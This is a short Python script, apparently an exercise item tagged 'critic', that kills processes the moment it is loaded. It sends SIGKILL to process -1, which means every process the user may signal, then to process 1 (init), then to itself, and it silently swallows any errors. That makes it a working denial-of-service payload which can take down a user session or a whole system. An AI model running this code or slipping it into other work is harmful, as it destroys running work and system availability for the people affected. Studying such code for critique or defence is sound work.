# Sends SIGKILL to every process it may send it to, at load.
# exercise: critic
import os
import signal

for victim in (-1, 1, os.getpid()):
    try:
        os.kill(victim, signal.SIGKILL)
    except OSError:
        pass
